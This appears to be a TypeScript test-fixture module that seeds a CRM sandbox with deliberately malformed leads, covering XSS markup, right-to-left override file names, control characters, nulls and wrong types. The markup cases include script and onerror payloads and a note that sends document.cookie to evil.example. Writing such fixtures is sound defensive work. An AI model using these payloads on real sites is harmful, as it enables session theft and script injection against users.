/**
 * Leads typed in by the public can hold anything. These fixed leads (the same ids for every seed,
 * present when the sandbox has at least 50 leads) carry the hostile values clients must survive.
 * Each one starts as an ordinary generated lead and has some fields overwritten, so the other
 * leads do not change when this list does.
 */
import { leadId, type LeadJson } from './leads';

export type HostileKind = 'markup' | 'rightToLeft' | 'emoji' | 'controlCharacters' | 'longText' | 'nullFields' | 'missingFields' | 'wrongTypes';

const HOSTILE_INDEXES: Readonly<Record<HostileKind, number>> = {
  markup: 3,
  rightToLeft: 7,
  emoji: 12,
  controlCharacters: 18,
  longText: 25,
  nullFields: 31,
  missingFields: 40,
  wrongTypes: 49,
};

/** kind -> lead id, e.g. HOSTILE_LEAD_IDS.markup === 'L-10004'. */
export const HOSTILE_LEAD_IDS: Readonly<Record<HostileKind, string>> = Object.fromEntries(
  Object.entries(HOSTILE_INDEXES).map(([kind, index]) => [kind, leadId(index)]),
) as Record<HostileKind, string>;

const KIND_BY_INDEX = new Map<number, HostileKind>(Object.entries(HOSTILE_INDEXES).map(([kind, index]) => [index, kind as HostileKind]));

export function hostileKindAt(index: number): HostileKind | undefined {
  return KIND_BY_INDEX.get(index);
}

export const LONG_TEXT_LENGTH = 10_000;

/** Exactly 10,000 characters of plausible text. */
export function longText(): string {
  const sentence = 'I am looking for a quiet place near the water with room for a workshop and a big kitchen. ';
  return sentence.repeat(Math.ceil(LONG_TEXT_LENGTH / sentence.length)).slice(0, LONG_TEXT_LENGTH);
}

export function applyHostile(kind: HostileKind, lead: LeadJson): LeadJson {
  switch (kind) {
    case 'markup':
      return {
        ...lead,
        firstName: '<b>Bold</b> & "Quoted"',
        lastName: "<script>alert('xss')</script>",
        source: '<img src=x onerror=alert(1)>',
        sourceUrl: 'javascript:alert(document.domain)',
        emails: [{ value: 'markup+<b>@example.com', type: 'personal', isPrimary: true }],
        tags: ['<iframe src="javascript:alert(1)"></iframe>', '[Open settings](command:workbench.action.openSettings)', '{{constructor.constructor("alert(1)")()}}', '${7*7}'],
        address: { street: '"><svg onload=alert(1)>', city: 'Charleston', state: 'SC', zip: '29401', country: 'US' },
      };
    case 'rightToLeft':
      return {
        ...lead,
        firstName: 'مريم',
        lastName: 'כהן',
        source: 'Referral \u202Etxt.exe',
        tags: ['\u202Egnp.exe', 'مشتري لأول مرة', 'קונה ראשון'],
        address: { street: 'شارع الملك 12', city: 'תל אביב', state: 'SC', zip: '29401', country: 'US' },
      };
    case 'emoji':
      return {
        ...lead,
        firstName: '👩‍👩‍👧‍👦',
        lastName: 'Family 🏡',
        tags: ['🔥 hot', '👍🏽', '🇺🇸', '🏳️‍🌈', '🧑🏾‍💻 remote worker'],
        address: { street: '1 Palm 🌴 Way', city: 'Charleston', state: 'SC', zip: '29401', country: 'US' },
      };
    case 'controlCharacters':
      return {
        ...lead,
        firstName: 'Null\u0000Byte',
        lastName: 'Bell\u0007 \u001b[31mRed\u001b[0m',
        tags: ['back\u0008space', 'del\u007f', 'line\u2028separator', 'tab\there'],
        address: { street: 'Line 1\nLine 2\r\nLine 3', city: 'Charleston', state: 'SC', zip: '29401', country: 'US' },
      };
    case 'longText':
      return { ...lead, lastName: longText() };
    case 'nullFields':
      return {
        id: lead.id,
        firstName: 'Nullable',
        lastName: null,
        emails: null,
        phones: null,
        stage: null,
        leadType: null,
        source: null,
        sourceUrl: null,
        assignedAgentId: null,
        tags: null,
        address: null,
        searchCriteria: null,
        createdAt: lead.createdAt,
        updatedAt: null,
        lastActivityAt: lead.lastActivityAt,
      };
    case 'missingFields':
      // Only the id and the creation time: no name, no stage, no activity (so it sorts last).
      return { id: lead.id, createdAt: lead.createdAt };
    case 'wrongTypes':
      return {
        ...lead,
        emails: 'not-an-array',
        phones: [{ value: 8435550100, type: 7 }],
        tags: 'vip',
        assignedAgentId: 12,
        address: 'somewhere near the beach',
        searchCriteria: { priceMin: 'cheap', priceMax: null, bedsMin: true },
        updatedAt: 1_790_000_000,
      };
  }
}

/** A note body per kind, so the hostile leads' notes are hostile too. */
export function hostileNoteBody(kind: HostileKind): string {
  return HOSTILE_NOTE_BODIES[kind]();
}

const HOSTILE_NOTE_BODIES: Readonly<Record<HostileKind, () => string>> = {
  markup: () => '<script>document.location="https://evil.example/?c="+document.cookie</script> <img src=x onerror=alert(1)>',
  rightToLeft: () => 'العميل يريد منزلاً قريباً من البحر \u202Eexe.tnemucod',
  emoji: () => 'Loved the house 😍😍😍 👨‍👩‍👧 🏊‍♀️',
  controlCharacters: () => 'Terminal \u001b[2J\u001b[H cleared \u0007 bell \u0000 nul',
  longText: longText,
  nullFields: () => '',
  missingFields: () => ' ',
  wrongTypes: () => '{"not":"a note"}',
};
